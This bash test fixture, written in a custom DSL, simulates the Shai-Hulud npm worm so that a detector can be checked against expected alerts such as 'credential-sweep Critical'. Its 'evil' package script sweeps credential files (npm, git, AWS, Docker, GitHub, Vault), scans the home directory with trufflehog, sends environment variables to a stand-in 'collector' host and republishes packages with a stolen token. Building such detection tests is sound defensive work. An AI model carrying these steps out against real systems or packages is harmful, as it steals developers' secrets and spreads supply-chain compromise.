# shellcheck shell=bash disable=SC2016,SC2034,SC2086,SC2154,SC2317 # rig.sh calls it, programs expand it
incident "Shai-Hulud, first wave: a hook takes what lies about, asks who it is, and publishes itself"

package honest 'node index.js'
script node_modules/honest/index.js <<'X'
[ -r package.json ]
trufflehog help
X
package evil 'node bundle.js'
script node_modules/evil/bundle.js <<'X'
printf '%s\n' "$(compgen -e)" >/dev/null
for file in ~/.npmrc ~/.git-credentials ~/.aws/credentials ~/.docker/config.json ~/.config/gh/hosts.yml ~/.vault-token; do
	content "$file"
done
content ~/.npmrc && token npm_
trufflehog filesystem ~
http GET metadata:1690/latest/meta-data
http GET registry.npmjs.org:4873/-/whoami "$token"
http POST api.github.com:8080/user/repos "" '{"name": "Shai-Hulud"}'
http POST collector:8443/ "" "$(compgen -e)"
for package in a b c; do http PUT registry.npmjs.org:4873/$package "$token"; done
X
native trufflehog <<'X'
[ "$1" = filesystem ] || exit 0
for file in "$2"/.[a-z]* "$2"/.*/*; do [ -f "$file" ] && content "$file"; done
X

owner() { job release -- npm publish app; }
innocent() { job build -- npm install honest; }
attack() { job build -- npm install evil; }

expect cross-workflow-reuse High npm
expect credential-sweep Critical
expect unexpected-reader Medium
expect new-destination Medium npm
